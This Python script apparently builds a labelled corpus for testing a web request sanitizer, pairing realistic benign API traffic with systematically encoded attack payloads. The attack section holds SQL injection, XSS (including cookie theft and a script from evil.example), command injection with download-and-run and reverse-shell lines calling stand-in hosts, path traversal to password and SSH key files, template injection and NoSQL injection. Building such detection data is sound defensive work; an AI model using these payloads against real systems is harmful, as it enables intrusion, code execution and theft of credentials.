#!/usr/bin/env python3
"""Generates the sanitizer's labelled corpus: attacks.jsonl and benign.jsonl.

Written for Portcullis: every template below is ours. Attacks are built from a few break-out
contexts, payload shapes and evasions (case, comments, URL/double/entity/escape encoding) crossed
systematically; benign traffic from realistic API values (names with apostrophes, prices, markdown,
code snippets, URLs, international text). Deterministic (fixed seed): run it again and the files
are the same.

Each line: {"label": "<category>|benign", "kind": "query|query_raw|json|form|ua", "payload": "..."}
  query     -> GET /search?q=<payload, percent-encoded>
  query_raw -> GET /search?<payload as is>
  json      -> POST /echo, application/json, payload is the whole body
  form      -> POST /echo, application/x-www-form-urlencoded, comment=<payload, encoded>
  ua        -> GET /echo with User-Agent: <payload>
"""
import json
import random
import urllib.parse

rng = random.Random(5)


def url(s):
    return urllib.parse.quote(s, safe="")


def double_url(s):
    return url(url(s))


def mixed_case(s):
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in s)


def entities(s):
    return "".join(f"&#x{ord(c):x};" if c in "<>\"'()=:" else c for c in s)


def js_escape(s):
    return "".join(f"\\u{ord(c):04x}" if c in "<>\"'" else c for c in s)


def comments_for_spaces(s):
    return s.replace(" ", "/**/")


def plus_spaces(s):
    return s.replace(" ", "+")


attacks = []


def add(label, kind, payload):
    attacks.append({"label": label, "kind": kind, "payload": payload})


# --- SQL injection --------------------------------------------------------------------------
sql_breakouts = ["'", "\"", "1'", "')", "abc'", "1)", "x\")", "1"]
sql_bodies = [
    " OR 1=1-- ",
    " OR '1'='1",
    " or 'x'='x' -- ",
    " OR 2>1#",
    " UNION SELECT NULL,NULL,version()-- ",
    " UNION ALL SELECT username,password FROM users#",
    " AND SLEEP(5)-- ",
    " AND 1=CONVERT(int,@@version)--",
    "; DROP TABLE users-- ",
    "; INSERT INTO admins VALUES ('eve','x')--",
    " ORDER BY 7-- ",
    " AND extractvalue(1,concat(0x7e,database()))--",
    " OR benchmark(5000000,md5(1))#",
    "; WAITFOR DELAY '0:0:5'--",
    " AND substring(version(),1,1)='5",
    " || 1=1 --",
]
sql_evasions = [lambda s: s, mixed_case, comments_for_spaces, url, double_url, plus_spaces]
for b in sql_breakouts:
    for body in sql_bodies:
        ev = rng.choice(sql_evasions)
        if ev is plus_spaces:
            # `+` for space only means something on the wire: send it as the raw query string.
            add("sqli", "query_raw", "q=" + urllib.parse.quote_plus(b + body))
        else:
            add("sqli", rng.choice(["query", "query", "form"]), ev(b + body))
for extra in ["admin'--", "admin' #", "admin'/*", "' or ''='", "\" or \"\"=\"", "1 or 1=1",
              "0 union select 1,2,3", "-1' union select load_file('/etc/passwd')-- ",
              "1;SELECT pg_sleep(5)", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2"]:
    for ev in [lambda s: s, url, mixed_case]:
        add("sqli", "query", ev(extra))
for body in sql_bodies[:10]:
    add("sqli", "json", json.dumps({"username": "admin" + "'" + body, "password": "x"}))

# --- XSS --------------------------------------------------------------------------------------
xss_vectors = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(document.cookie)>",
    "<svg onload=alert(1)>",
    "<svg/onload=confirm`1`>",
    "<body onload=prompt(1)>",
    "\"><script>alert(String.fromCharCode(88,83,83))</script>",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "javascript:alert(document.domain)",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "';alert(1);//",
    "\";alert(document.cookie);//",
    "<math><mtext><a href=javascript:alert(1)>x",
    "<video><source onerror=\"alert(1)\">",
    "<div style=\"width:expression(alert(1))\">",
]
xss_evasions = [lambda s: s, mixed_case, url, double_url, entities, js_escape]
for v in xss_vectors:
    for ev in xss_evasions:
        add("xss", rng.choice(["query", "form", "json_wrap"]), ev(v))
for v in ["jav&#x09;ascript:alert(1)", "java\tscript:alert(1)", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
          "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
          "<ScRiPt>alert(1)</sCrIpT>", "<img src=x oNeRrOr=alert(1)>"]:
    add("xss", "query", v)
    add("xss", "json_wrap", v)

# --- OS command injection -----------------------------------------------------------------
cmd_seps = [";", "|", "||", "&&", "&", "\n", "`", "$("]
cmd_bodies = [
    "cat /etc/passwd", "id", "whoami", "uname -a", "wget http://evil.example/x.sh -O /tmp/x",
    "curl -s http://evil.example/s | sh", "nc -e /bin/sh 10.0.0.1 4444", "ping -c 3 10.0.0.1",
    "sleep 10", "ls -la /", "type C:\\Windows\\win.ini", "powershell -enc SQBFAFgA",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
]
cmd_evasions = [lambda s: s, url, lambda s: s.replace(" ", "${IFS}"), lambda s: s.replace("a", "'a'", 1),
                lambda s: s.replace("i", "\\i", 1), double_url]
for sep in cmd_seps:
    for body in cmd_bodies:
        tail = "`" if sep == "`" else (")" if sep == "$(" else "")
        payload = "127.0.0.1" + sep + " " + body + tail
        ev = rng.choice(cmd_evasions)
        add("cmdi", rng.choice(["query", "form", "json_wrap"]), ev(payload))

# --- Path traversal / LFI -------------------------------------------------------------------
trav_seps = ["../", "..\\", "%2e%2e%2f", "%2e%2e/", "..%2f", "%252e%252e%252f", "..%c0%af",
             "....//", "..;/", "%2e%2e%5c", "..%255c"]
trav_targets = ["etc/passwd", "etc/shadow", "windows/win.ini", "boot.ini", "proc/self/environ",
                "WEB-INF/web.xml", "home/app/.ssh/id_rsa", "var/log/apache2/access.log", "app/config.yml"]
for sep in trav_seps:
    for t in trav_targets:
        depth = rng.randint(2, 7)
        payload = sep * depth + t
        add("traversal", "query_raw" if "%" in sep else rng.choice(["query", "json_wrap"]),
            ("file=" + payload) if "%" in sep else payload)
for w in ["php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd",
          "phar://uploads/x.jpg/shell", "zip://uploads/a.zip#shell.php", "expect://id",
          "/etc/passwd", "C:\\Windows\\System32\\drivers\\etc\\hosts", "/proc/self/cmdline",
          "../../../../etc/passwd%00.png", "..\\..\\..\\boot.ini"]:
    for ev in [lambda s: s, url, double_url]:
        add("traversal", "query", ev(w))

# --- NoSQL operator injection -----------------------------------------------------------------
ops = ["$ne", "$gt", "$gte", "$lt", "$regex", "$where", "$in", "$nin", "$exists", "$expr", "$or"]
fields = ["username", "password", "email", "token", "id"]
for op in ops:
    for f in fields:
        val = {"$regex": ".*"} if op == "$regex" else ("this.password.length > 0" if op == "$where" else
              ([] if op in ("$in", "$nin", "$or") else (True if op == "$exists" else "")))
        body = {f: {op: val}} if op not in ("$where", "$or", "$expr") else {op: val}
        add("nosql", "json", json.dumps(body))
        add("nosql", "query_raw", f"{f}[{op}]=x")
for tpl in ['{{"user": "a", "pass": {{"{op}": null}}}}', '[{{"filter": {{"age": {{"{op}": 18}}}}}}]']:
    for op in ops:
        add("nosql", "json", tpl.format(op=op))

# --- Server-side template injection ------------------------------------------------------------
ssti = [
    "{{7*7}}", "{{7*'7'}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "${{7*7}}", "*{7*7}",
    "{{config.items()}}", "{{self.__init__.__globals__}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}", "{% import os %}{{os.system('id')}}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "{{lipsum.__globals__.os.popen('id').read()}}", "#set($x=7*7)${x}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}", "{{ [].class.base.subclasses() }}",
    "${\"\".getClass().forName(\"java.lang.Runtime\")}", "{{constructor.constructor('return process')()}}",
]
for s in ssti:
    for ev in [lambda s: s, url, double_url, lambda s: s.replace("7*7", f"{rng.randint(2,99)}*{rng.randint(2,99)}")]:
        add("ssti", rng.choice(["query", "form", "json_wrap"]), ev(s))

# --- Scanner user agents ---------------------------------------------------------------------
tools = ["sqlmap/1.7.{n}#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.{n}) (Evasions:None)",
         "Nmap Scripting Engine; https://nmap.org/book/nse.html", "masscan/1.{n} (https://github.com/robertdavidgraham/masscan)",
         "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
         "WPScan v3.8.{n} (https://wpscan.com/wordpress-security-scanner)", "gobuster/3.{n}", "Fuzz Faster U Fool v2.{n}",
         "Wfuzz/3.1.{n}", "Mozilla/5.0 zgrab/0.x", "Acunetix-WVS/{n}", "Mozilla/4.0 (compatible; Netsparker)",
         "OpenVAS-VT {n}", "Nessus SOAP v0.0.1 (Nessus.org)", "w3af.org", "Arachni/v1.{n}", "commix/v3.{n}",
         "dirsearch/0.4.{n}", "feroxbuster/2.{n}", "WhatWeb/0.5.{n}"]
for t in tools:
    for n in range(4):
        add("scanner", "ua", t.format(n=n))

# --- Benign traffic --------------------------------------------------------------------------
names = ["O'Brien", "D'Angelo", "Zoë Müller", "José Álvarez", "Séan O'Neill", "李雷", "Анна Петрова",
         "Øyvind Åsheim", "Nguyễn Văn An", "Renée L'Oréal", "Mary-Jane Smith", "Ahmed Al-Farsi",
         "Bjørn Ødegård", "Françoise d'Arc", "Kazuki Satō", "Ελένη Παπαδοπούλου"]
products = ["men's running shoes", "kids' rain boots", "4K monitor 27\"", "USB-C cable (2 m)",
            "organic coffee beans 1kg", "women's 'classic' jacket", "Rock 'n' Roll vinyl", "Tom & Jerry DVD",
            "stainless steel pan, 28cm", "100% cotton T-shirt", "3/4\" drill bit", "L'Or espresso pods"]
prices = ["$19.99", "€24,50", "£5", "¥1200", "$1,299.00", "20% off", "buy 2 get 1 free", "from $5 - $10"]
sentences = [
    "It's the best purchase I've made this year; shipping took 3 days.",
    "Doesn't fit — I'd like to return it, please.",
    "Can I select the size after ordering? I'm between M and L.",
    "The 'pro' version is worth it, or so they say.",
    "Works on Windows and macOS; Linux support is coming.",
    "Delete my old address and use the new one from my profile.",
    "I'll drop by the store on Friday & pick it up.",
    "Order #1234 arrived damaged (box crushed).",
    "Is this available in São Paulo or only in Rio?",
    "Great value: 5 stars! Would buy again.",
    "Where's my refund? It's been 2 weeks...",
    "He said \"it's fine\" but it isn't.",
    "Please update my e-mail to ana@example.com.",
    "Union members get 10% off on Tuesdays.",
    "Can you cat-sit while I'm away? Just kidding — wrong app.",
    "Sleep tracking stopped working after the update.",
    "The instructions say: insert tab A into slot B.",
    "Echo dot keeps disconnecting from Wi-Fi.",
    "My name has an apostrophe (O'Connor) and your form rejects it!",
    "1 or 2 units please, whichever is in stock.",
    "Type C adapters, not type A.",
    "Ping me when it ships: +44 20 7946 0958.",
    "München → Zürich → Milano, 3 Tage.",
    "東京都渋谷区の店舗で受け取りたいです。",
    "Доставка в Санкт-Петербург возможна?",
    "هل يتوفر هذا المنتج باللون الأزرق؟",
    "Ça marche très bien, merci !",
    "¿Dónde está mi pedido? Lo pedí el lunes.",
]
markdown = [
    "# Release notes\n\n- Fixed *checkout* bug\n- Added `--verbose` flag\n\nSee [docs](https://docs.example.com/guide).",
    "**Note:** prices include VAT (20%).\n\n> It's the little things.",
    "## Steps\n1. Open *Settings*\n2. Select **Account**\n3. Click `Save`",
    "```js\nconst total = items.reduce((a, b) => a + b.price, 0);\nif (total > 100 && user.isMember) { discount(); }\n```",
    "```python\ndef area(r):\n    return 3.14159 * r ** 2\nprint(area(2))\n```",
    "```rust\nfn main() { let v: Vec<i32> = (1..=5).collect(); println!(\"{:?}\", v); }\n```",
    "Use `npm install` then `npm test`; the output goes to ./build/report.html.",
    "Table:\n\n| size | price |\n|---|---|\n| S | $10 |\n| M | $12 |",
    "Relative link to [the FAQ](../faq.md) and an image ![logo](/static/logo.png).",
    "To compare: `a < b` and `b > c` imply `a < c`.",
    "SQL tip: use parameters, e.g. `SELECT name FROM users WHERE id = ?` — never string concatenation.",
    "HTML entities like &amp; and &lt; are escaped in the output.",
    "Template syntax in our docs: Hello {{name}}, your order ${orderId} is ready.",
    "Path on the server: /var/www/app/public, config in config/app.yml.",
]
urls = ["https://shop.example.com/p/123?ref=newsletter&utm_source=mail", "https://example.org/a/b/c.html#top",
        "http://localhost:3000/api/v1/users?page=2&per_page=50", "https://cdn.example.net/img/cat%20photo.jpg",
        "mailto:support@example.com", "https://maps.example.com/?q=48.8566,2.3522",
        "https://example.com/search?q=o%27brien&lang=en"]
uas = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{n}.0.0.0 Safari/537.36",
       "Mozilla/5.0 (X11; Linux x86_64; rv:{n}.0) Gecko/20100101 Firefox/{n}.0",
       "Mozilla/5.0 (iPhone; CPU iPhone OS 17_{n} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1",
       "curl/8.{n}.0", "python-requests/2.3{n}.0", "okhttp/4.{n}.0", "PostmanRuntime/7.{n}.0",
       "Go-http-client/1.1", "MyShopApp/3.{n} (Android 14; Pixel 8)"]

benign = []


def good(kind, payload):
    benign.append({"label": "benign", "kind": kind, "payload": payload})


for n in names:
    good("query", n)
    good("json", json.dumps({"name": n, "email": "user@example.com", "newsletter": True}, ensure_ascii=False))
for p in products:
    good("query", p)
    for pr in prices:
        good("json", json.dumps({"product": p, "price": pr, "qty": rng.randint(1, 9)}, ensure_ascii=False))
for s in sentences:
    good("form", s)
    good("query", s)
    good("json", json.dumps({"review": s, "rating": rng.randint(1, 5), "author": rng.choice(names)}, ensure_ascii=False))
for m in markdown:
    good("json", json.dumps({"title": "Post", "body": m, "tags": ["news", "howto"]}, ensure_ascii=False))
    good("form", m)
for u in urls:
    good("query", u)
    good("json", json.dumps({"link": u, "note": "see this"}))
for ua in uas:
    for n in range(6):
        good("ua", ua.format(n=110 + n if "Chrome" in ua or "Firefox" in ua else n))
for i in range(100):
    order = {
        "orderId": f"ORD-{rng.randint(10000, 99999)}",
        "customer": {"name": rng.choice(names), "address": f"{rng.randint(1, 200)} King's Road, London"},
        "items": [{"sku": f"SKU-{rng.randint(100, 999)}", "name": rng.choice(products), "price": round(rng.uniform(1, 500), 2)}
                  for _ in range(rng.randint(1, 4))],
        "note": rng.choice(sentences),
        "coupon": rng.choice(["", "SPRING-20", "VIP_2024", "free-ship"]),
    }
    good("json", json.dumps(order, ensure_ascii=False))
for i in range(50):
    a, b = rng.sample(sentences, 2)
    good("form", f"{a} {b}")
    good("query", f"{rng.choice(products)} {rng.choice(prices)}")

with open("attacks.jsonl", "w", encoding="utf-8") as f:
    for a in attacks:
        if a["kind"] == "json_wrap":
            a = {"label": a["label"], "kind": "json", "payload": json.dumps({"comment": a["payload"]}, ensure_ascii=False)}
        f.write(json.dumps(a, ensure_ascii=False) + "\n")
with open("benign.jsonl", "w", encoding="utf-8") as f:
    for b in benign:
        f.write(json.dumps(b, ensure_ascii=False) + "\n")

from collections import Counter
print("attacks:", len(attacks), dict(Counter(a["label"] for a in attacks)))
print("benign:", len(benign))
